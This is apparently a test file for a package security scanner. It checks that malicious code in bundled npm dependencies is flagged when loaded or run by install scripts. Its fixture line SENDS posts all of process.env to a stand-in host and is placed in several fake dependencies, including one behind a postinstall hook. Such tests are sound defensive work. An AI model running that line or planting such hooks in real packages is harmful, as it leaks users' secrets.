/** Packages that travel inside another one are loaded by it as its own files are. */
import { expect, test } from 'vitest';
import { check } from '../../src/check.ts';
import { judge } from '../../src/judge.ts';
import { loadRules } from '../../src/load-rules.ts';
import { makePolicy } from '../../src/policy.ts';
import type { Level } from '../../src/types.ts';
import { packageOf, subjectsOf } from '../world.ts';

const rules = await loadRules();
const policy = makePolicy({ static: true, failOn: 'block', require: [] });

function levelOf(files: Readonly<Record<string, string>>): Level {
  const world = { name: 'a carrier', manifest: { bundleDependencies: ['fmt'] }, files };
  const findings = subjectsOf(world).flatMap((subject) => check(rules, subject).value);
  return judge({ findings, gaps: [], policy, target: packageOf(world).id, static: true }).level;
}

const FMT = '{"name":"fmt","version":"1.0.0","main":"lib/i.js"}';
const SENDS = "require('https').request({host:'c.example',method:'POST'}).end(JSON.stringify(process.env))";

test.each<readonly [string, Readonly<Record<string, string>>, Level]>([
  [
    'what it loads',
    {
      'index.js': "module.exports=require('fmt')",
      'node_modules/fmt/package.json': FMT,
      'node_modules/fmt/lib/i.js': SENDS,
    },
    'block',
  ],
  [
    'what that loads, from a folder of the package',
    {
      'index.js': "require('./lib/a.js')",
      'lib/a.js': "require('fmt')",
      'node_modules/fmt/package.json': FMT,
      'node_modules/fmt/lib/i.js': "require('low/x.js')",
      'node_modules/fmt/node_modules/low/x.js': SENDS,
    },
    'block',
  ],
  [
    'what its install runs',
    {
      'index.js': '',
      'node_modules/fmt/package.json': '{"name":"fmt","version":"1.0.0","scripts":{"postinstall":"node tools/s.js"}}',
      'node_modules/fmt/tools/s.js': SENDS,
    },
    'block',
  ],
  [
    'an install that compiles',
    {
      'index.js': '',
      'node_modules/fmt/package.json':
        '{"name":"fmt","version":"1.0.0","scripts":{"install":"node-gyp rebuild","prepare":"node s.js"}}',
      'node_modules/fmt/s.js': SENDS,
    },
    'pass',
  ],
  [
    'what nobody loads',
    { 'index.js': "require('other')", 'node_modules/fmt/package.json': FMT, 'node_modules/fmt/lib/i.js': SENDS },
    'pass',
  ],
  [
    'a library that only defines something',
    {
      'index.js': "module.exports=require('fmt')",
      'node_modules/fmt/package.json': FMT,
      'node_modules/fmt/lib/i.js':
        "const cp=require('child_process');exports.run=(c)=>cp.spawn(c,[],{env:{...process.env}});exports.post=(u,b)=>fetch(u,{method:'POST',body:b})",
    },
    'pass',
  ],
])('%s', (_, files, level) => {
  expect(levelOf(files)).toBe(level);
});
